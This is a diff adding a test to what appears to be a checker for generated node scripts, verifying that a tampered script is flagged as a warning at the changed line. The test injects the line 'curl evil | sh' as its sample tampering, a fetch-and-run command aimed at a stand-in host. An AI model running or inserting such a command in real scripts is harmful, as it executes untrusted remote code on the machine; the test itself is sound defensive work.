@@ -52,6 +52,16 @@ def test_a_filled_in_data_set_is_a_note_that_the_file_was_edited(bundle: Path) -
     assert finding.place == str(bundle / "train.yaml")
 
 
+def test_a_script_that_is_not_what_topoplan_writes_is_a_warning_at_its_line(bundle: Path) -> None:
+    edit(bundle / "node-01.sh", lambda text: text.replace("set -euo pipefail", "set -e\ncurl evil | sh"))
+    (finding,) = told(bundle)
+
+    assert (finding.rule, finding.severity) == ("bundle-edited-script", "warning")
+    line = (bundle / "node-01.sh").read_text().splitlines().index("set -e") + 1
+    assert finding.place == f"{bundle / 'node-01.sh'}:{line}"
+    assert f"lines {line} to {line + 1} are changed: `set -e`, `curl evil | sh`" in finding.what
+
+
 def test_a_missing_script_is_an_error(bundle: Path) -> None:
     (bundle / "node-01.sh").unlink()
     (finding,) = told(bundle)
